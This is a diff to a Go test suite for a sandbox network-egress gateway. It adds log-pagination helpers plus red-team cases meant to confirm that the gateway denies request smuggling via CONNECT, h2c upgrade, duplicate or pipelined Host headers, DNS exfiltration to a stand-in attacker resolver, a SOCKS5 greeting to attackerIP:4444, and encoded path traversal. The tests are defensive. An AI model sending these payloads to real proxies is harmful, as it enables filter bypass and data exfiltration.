@@ -272,6 +272,7 @@ func (e *env) exec(t *testing.T, sb sbx, argv ...string) string {
 
 type netLog struct {
 	Decisions []struct {
+		Seq                                                    uint64
 		Proto, Name, Dest, Dialled, Verdict, Rule, Reason, TLS string
 	} `json:"decisions"`
 	Counters map[string]uint64 `json:"counters"`
@@ -281,6 +282,33 @@ func (e *env) log(t *testing.T, sb sbx) netLog {
 	t.Helper()
 	var l netLog
 	if code := e.api(t, "GET", "/v1/sandboxes/"+sb.ID+"/network/log", nil, &l); code != 200 {
+		t.Fatalf("network log: %d", code)
+	}
+	return l
+}
+
+// seq returns the sandbox's latest decision number: a later logAfter
+// shows only what an attempt made after it caused.
+func (e *env) seq(t *testing.T, sb sbx) uint64 {
+	t.Helper()
+	var last uint64
+	for {
+		var l netLog
+		if code := e.api(t, "GET", fmt.Sprintf("/v1/sandboxes/%s/network/log?after=%d&limit=1000", sb.ID, last), nil, &l); code != 200 {
+			t.Fatalf("network log: %d", code)
+		}
+		if len(l.Decisions) == 0 {
+			return last
+		}
+		last = l.Decisions[len(l.Decisions)-1].Seq
+	}
+}
+
+// logAfter returns the decisions after seq (and the counters).
+func (e *env) logAfter(t *testing.T, sb sbx, seq uint64) netLog {
+	t.Helper()
+	var l netLog
+	if code := e.api(t, "GET", fmt.Sprintf("/v1/sandboxes/%s/network/log?after=%d&limit=1000", sb.ID, seq), nil, &l); code != 200 {
 		t.Fatalf("network log: %d", code)
 	}
 	return l
@@ -409,6 +437,53 @@ func TestEgress(t *testing.T) {
 		e.run(t, sb, "udp", attackerIP+":9999", n)
 		l := e.log(t, sb)
 		record("allowlist", "RT-05 UDP", e.wan.attackerSaw(n), l.Counters["nft_udp_drop"] > 0, ctrl)
+		// Proxy-protocol tricks on an allowed connection (RT-24/25/27): the
+		// smuggled request names the attacker tenant on the shared edge.
+		smuggle := `GET /flag?n=%s HTTP/1.1\r\nHost: evil-cdn.test\r\n\r\n`
+		for _, a := range []struct {
+			id, reason string
+			args       func(n string) []string
+		}{
+			{"RT-25 CONNECT (plain HTTP)", "connect_denied", func(n string) []string {
+				return []string{"raw", "registry.test:80", `CONNECT registry.test:80 HTTP/1.1\r\nHost: registry.test\r\n\r\n` + fmt.Sprintf(smuggle, n)}
+			}},
+			{"RT-25 CONNECT inside terminated TLS", "connect_denied", func(n string) []string {
+				return []string{"rawtls", "registry.test:443", "registry.test", `CONNECT evil-cdn.test:443 HTTP/1.1\r\nHost: registry.test\r\n\r\n` + fmt.Sprintf(smuggle, n)}
+			}},
+			{"RT-25 h2c Upgrade then smuggled request", "upgrade_denied", func(n string) []string {
+				return []string{"raw", "registry.test:80", `GET / HTTP/1.1\r\nHost: registry.test\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n` + fmt.Sprintf(smuggle, n)}
+			}},
+			{"RT-24 absolute URI naming the attacker", "not_allowed", func(n string) []string {
+				return []string{"raw", "registry.test:80", `GET http://evil-cdn.test/flag?n=` + n + ` HTTP/1.1\r\nHost: registry.test\r\n\r\n`}
+			}},
+			{"RT-24 duplicate Host", "bad_request", func(n string) []string {
+				return []string{"raw", "registry.test:80", `GET /flag?n=` + n + ` HTTP/1.1\r\nHost: registry.test\r\nHost: evil-cdn.test\r\n\r\n`}
+			}},
+			{"RT-24 pipelined second request, other Host", "host_mismatch", func(n string) []string {
+				return []string{"raw", "registry.test:80", `GET /a HTTP/1.1\r\nHost: registry.test\r\n\r\n` + fmt.Sprintf(smuggle, n)}
+			}},
+			{"RT-11 DNS over UDP to another resolver", "dns_refused", func(n string) []string {
+				return []string{"dnsvia", "udp", attackerIP + ":53", n + ".evil.test"}
+			}},
+			{"RT-11 DNS over TCP to another resolver", "dns_refused", func(n string) []string {
+				return []string{"dnsvia", "tcp", attackerIP + ":53", n + ".evil.test"}
+			}},
+			{"RT-11 DNS over TLS (853) to another resolver", "not_allowed", func(n string) []string {
+				return []string{"tls", attackerIP + ":853", n + ".dns.evil.test", n + ".dns.evil.test", "/dns-query"}
+			}},
+			{"RT-27 SOCKS5 greeting to the attacker", "unknown_protocol", func(n string) []string {
+				return []string{"raw", attackerIP + ":4444", `\x05\x01\x00` + n}
+			}},
+		} {
+			n := nonce()
+			seq := e.seq(t, sb)
+			out := e.run(t, sb, a.args(n)...)
+			l := e.logAfter(t, sb, seq)
+			if !l.denied(a.reason) {
+				t.Logf("%s: %s; log %+v", a.id, out, l.Decisions)
+			}
+			record("allowlist", a.id, e.wan.attackerSaw(n) || e.wan.asked(n), l.denied(a.reason), ctrl)
+		}
 		// RT-20 domain fronting: SNI names the allowed registry, the
 		// encrypted Host the attacker tenant on the same CDN address. The
 		// gateway terminates the TLS (R10) and sees the inner Host (R9).
@@ -426,6 +501,71 @@ func TestEgress(t *testing.T) {
 			t.Errorf("verified TLS through the gateway (CA in the sandbox's trust store): %s", out)
 		}
 		t.Logf("counters: %v", l.Counters)
+	})
+
+	// Method/path rules (R20): every request on a connection is decided on
+	// its own; a refused one never reaches api.test (its request log is the
+	// oracle). Presets expand to GET/HEAD-only rules in the stored policy.
+	t.Run("methodpath", func(t *testing.T) {
+		pol := map[string]any{"mode": "allowlist", "presets": []string{"npm"},
+			"allow":       []string{"preset:goproxy", "api.test:443,80 GET,HEAD /v1/*", "registry.test:443,80"},
+			"passthrough": []string{"api.test:443"}}
+		sb := e.create(t, pol)
+		var rec struct {
+			Network struct{ Allow, Presets, Passthrough []string } `json:"network"`
+		}
+		e.api(t, "GET", "/v1/sandboxes/"+sb.ID, nil, &rec)
+		wantAllow := "registry.npmjs.org:443 GET,HEAD|proxy.golang.org:443 GET,HEAD|sum.golang.org:443 GET,HEAD|api.test:80,443 GET,HEAD /v1/*|registry.test:80,443"
+		if got := strings.Join(rec.Network.Allow, "|"); got != wantAllow || len(rec.Network.Presets) != 0 {
+			t.Errorf("stored allow = %q, presets %q; want %q and none", got, rec.Network.Presets, wantAllow)
+		}
+		for _, bad := range []map[string]any{
+			{"mode": "allowlist", "allow": []string{"preset:nope"}},
+			{"mode": "allowlist", "presets": []string{"nope"}},
+			{"mode": "open", "presets": []string{"pypi"}},
+			{"mode": "allowlist", "allow": []string{"api.test:443 get"}},
+			{"mode": "allowlist", "allow": []string{"api.test:443 /v1/../x"}},
+		} {
+			if code := e.api(t, "POST", "/v1/sandboxes", map[string]any{"template": "base", "network": bad}, nil); code != http.StatusBadRequest {
+				t.Errorf("create with network %v: %d, want 400", bad, code)
+			}
+		}
+		ctrlTLS := strings.Contains(e.run(t, sb, "https", "api.test:443", "api.test", "/v1/ok", "GET", ""), "api ok GET /v1/ok") &&
+			e.wan.sawEvent("api.test no-credential GET /v1/ok tls=true")
+		ctrlHTTP := strings.Contains(e.run(t, sb, "http", "api.test:80", "api.test", "/v1/plain"), "api ok GET /v1/plain") &&
+			e.wan.sawEvent("api.test no-credential GET /v1/plain tls=false")
+		ctrl := ctrlTLS && ctrlHTTP
+		if !ctrl {
+			t.Errorf("positive controls: https %v http %v", ctrlTLS, ctrlHTTP)
+		}
+		for _, a := range []struct {
+			id   string
+			args func(n string) []string
+		}{
+			{"R20 method outside the rule (TLS, passthrough listed)", func(n string) []string {
+				return []string{"https", "api.test:443", "api.test", "/v1/" + n, "DELETE", ""}
+			}},
+			{"R20 path outside the rule (TLS)", func(n string) []string {
+				return []string{"https", "api.test:443", "api.test", "/admin/" + n, "GET", ""}
+			}},
+			{"R20 path outside the rule (HTTP)", func(n string) []string {
+				return []string{"http", "api.test:80", "api.test", "/v2/" + n}
+			}},
+			{"R20 encoded traversal /v1/..%2f", func(n string) []string {
+				return []string{"https", "api.test:443", "api.test", "/v1/..%2fadmin/" + n, "GET", ""}
+			}},
+			{"R20 dot segment /v1/../", func(n string) []string {
+				return []string{"http", "api.test:80", "api.test", "/v1/../admin/" + n}
+			}},
+			{"R20 second request on keep-alive", func(n string) []string {
+				return []string{"keepalive", "api.test:80", "api.test", "/v1/a", "api.test", "/admin/" + n}
+			}},
+		} {
+			n := nonce()
+			seq := e.seq(t, sb)
+			e.run(t, sb, a.args(n)...)
+			record("allowlist", a.id, e.wan.sawEvent(n), e.logAfter(t, sb, seq).denied("request_not_allowed"), ctrl)
+		}
 	})
 
 	t.Run("open", func(t *testing.T) {
@@ -544,7 +684,7 @@ func TestEgress(t *testing.T) {
 		recordK("RT-30 placeholder to a non-bound host", leak() || e.wan.sawEvent("space-cred-"), e.log(t, sb).denied("credential_host"))
 		// The placeholder over plaintext to the bound host.
 		run(sb, "httpauth", "api.test:80", "api.test", "/v1/echo", "Bearer $API_TOKEN")
-		recordK("RT-31 placeholder over plaintext", leak() || e.wan.sawEvent("tls=false"), e.log(t, sb).denied("credential_plaintext"))
+		recordK("RT-31 placeholder over plaintext", leak() || e.wan.sawEvent("/v1/echo tls=false"), e.log(t, sb).denied("credential_plaintext"))
 		// Outside the binding's path and method scope.
 		run(sb, "https", "api.test:443", "api.test", "/admin/echo", "GET", "Bearer $API_TOKEN")
 		recordK("RT-32 path outside the binding", leak() || e.wan.sawEvent("/admin/echo"), e.log(t, sb).denied("credential_path"))
